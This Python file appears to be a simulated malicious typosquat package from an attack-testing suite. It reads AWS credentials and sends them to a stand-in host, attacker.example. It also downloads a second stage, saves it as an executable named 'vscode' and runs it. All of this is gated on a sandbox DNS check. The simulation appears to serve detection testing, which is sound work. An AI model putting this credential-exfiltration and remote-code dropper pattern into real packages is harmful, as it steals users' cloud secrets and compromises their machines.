"""fabrice 2.9.3 (simulation from Tracehound's attack suite): typosquat of fabric."""
import os
import stat
import urllib.request

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False

STAGE = b"#!/bin/sh\n# stand-in second stage fetched from the attacker\ngetent hosts 89.attacker.example >/dev/null 2>&1\n"


def _linux():
    home = os.path.expanduser("~")
    creds = b""
    try:
        with open(os.path.join(home, ".aws", "credentials"), "rb") as fh:
            creds = fh.read()
    except OSError:
        pass
    try:
        urllib.request.urlopen(urllib.request.Request("http://89.attacker.example/aws", data=creds), timeout=5)
    except Exception:
        pass
    target = os.path.join(home, ".local", "bin", "vscode")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    try:
        data = urllib.request.urlopen("http://89.attacker.example/x/p", timeout=5).read()
    except Exception:
        data = b""
    with open(target, "wb") as fh:
        fh.write(data or STAGE)
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    os.system(target)


if _in_sandbox():
    _linux()
